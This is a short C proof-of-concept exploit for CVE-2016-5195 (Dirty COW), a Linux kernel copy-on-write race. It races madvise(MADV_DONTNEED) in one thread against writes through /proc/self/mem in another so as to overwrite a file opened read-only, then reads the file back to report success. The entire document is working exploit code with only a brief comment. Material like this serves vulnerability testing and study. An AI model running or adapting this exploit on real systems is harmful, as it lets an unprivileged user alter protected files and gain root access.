/* CVE-2016-5195: while one thread drops the private copy of a page, another writes to it through /proc/self/mem: a kernel that
   loses the race writes to the file. dirty_cow FILE */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static char *map;
static volatile int done;
static void *drop(void *unused) {
    while (!done) madvise(map, 4096, MADV_DONTNEED);
    return 0;
}
int main(int argc, char **argv) {
    int file = open(argv[1], O_RDONLY);
    map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (map == MAP_FAILED) return 1;
    pthread_t thread;
    pthread_create(&thread, 0, drop, 0);
    int memory = open("/proc/self/mem", O_RDWR), written = 0;
    for (int i = 0; i < 5000; i++) written += pwrite(memory, "dirty!", 6, (long)map) == 6;
    done = 1;
    pthread_join(thread, 0);
    char now[7] = {0};
    pread(file, now, 6, 0);
    printf("written some: %d, the file: %s\n", written > 0, now);
    return 0;
}
